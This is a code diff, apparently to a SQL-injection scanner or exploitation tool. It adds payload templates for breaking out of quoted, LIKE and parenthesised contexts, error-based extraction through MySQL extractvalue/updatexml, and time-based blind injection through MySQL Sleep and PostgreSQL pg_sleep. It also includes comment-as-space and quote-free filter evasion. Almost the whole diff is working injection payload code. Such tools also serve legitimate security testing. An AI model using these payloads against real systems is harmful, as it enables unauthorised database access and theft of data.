@@ -31,7 +31,22 @@ export const BOUNDARIES: readonly Boundary[] = [
   },
   { name: "pattern of Like in '", fits: 'text', kind: 'narrows', with: (v, p) => `${v}%'And(${p})And'%'='` },
   { name: "text in ' in parentheses", fits: 'text', kind: 'narrows', with: (v, p) => `${v}')And(${p})And('q'='q` },
+  {
+    name: "pattern of Like in ' in parentheses",
+    fits: 'text',
+    kind: 'narrows',
+    with: (v, p) => `${v}%')And(${p})And('%'='`,
+  },
+  {
+    // MySQL and MariaDB look whether a subquery has one row before they look for rows, so it fails where none is found, too.
+    name: "text in ', failing",
+    fits: 'text',
+    kind: 'narrows',
+    with: (v, p) => `${v}'And(Case/**/When(${p})Then(1)Else(Select/**/1/**/Union/**/Select/**/2)End)And'q'='q`,
+  },
+  { name: 'number in parentheses', fits: 'number', kind: 'narrows', with: (v, p) => `${v})And(${p})And(1)=(1` },
   { name: 'text in "', fits: 'text', kind: 'narrows', quote: '"', with: (v, p) => joining(v, '"', p) },
+  { name: 'text in " in parentheses', fits: 'text', kind: 'narrows', with: (v, p) => `${v}")And(${p})And("q"="q` },
   {
     name: 'order',
     fits: 'order',
@@ -54,8 +69,8 @@ export interface Revealing {
 }
 
 export const REVEALING: readonly Revealing[] = [
-  { dbms: 'MySQL', expression: (a, b) => `extractvalue(1,concat(0x7e,${a}*${b}))` },
-  { dbms: 'MySQL', expression: (a, b) => `updatexml(1,concat(0x7e,${a}*${b}),1)` },
+  { dbms: 'MySQL', expression: (a, b) => `extractvalue(1,concat(char(126),${a}*${b}))` },
+  { dbms: 'MySQL', expression: (a, b) => `updatexml(1,concat(char(126),${a}*${b}),1)` },
   { dbms: 'PostgreSQL', expression: (a, b) => `Cast(Chr(126)||(${a}*${b})As/**/Int)` },
   { dbms: 'CockroachDB', expression: (a, b) => `Cast(Chr(126)||(${a}*${b})::Text/**/As/**/Int)` },
   { dbms: 'Microsoft SQL Server', expression: (a, b) => `Convert(Int,Char(126)+Cast(${a}*${b}/**/As/**/Varchar))` },
@@ -100,6 +115,8 @@ export interface Waiting {
 }
 
 const ANY = ['text', 'number'] as const
+/** Quotes, spaces and comments may be refused where none are needed. */
+const UNQUOTED = ['number'] as const
 /** Where a condition or an expression within the statement would not parse: a limit, a name. */
 const BARE = ['number', 'name'] as const
 const number = (v: string): string => (/^-?\d+(\.\d+)?$/.test(v) ? v : '1')
@@ -114,6 +131,18 @@ export const WAITING: readonly Waiting[] = [
     technique: 'time',
     fits: ANY,
     with: (v, s) => `${v || '1'} Xor${mysql(s)}/*'Xor${mysql(s)}Xor'"Xor${mysql(s)}Xor"*/`,
+  },
+  {
+    dbms: 'MySQL',
+    technique: 'time',
+    fits: UNQUOTED,
+    with: (v, s) => `${v || '1'}-(Select(0)From(Select(Sleep(${s})))x)`,
+  },
+  {
+    dbms: 'PostgreSQL',
+    technique: 'time',
+    fits: UNQUOTED,
+    with: (v, s) => `${v || '1'}-(Select(0*Count(pg_sleep(${s}))))`,
   },
   {
     dbms: 'PostgreSQL',
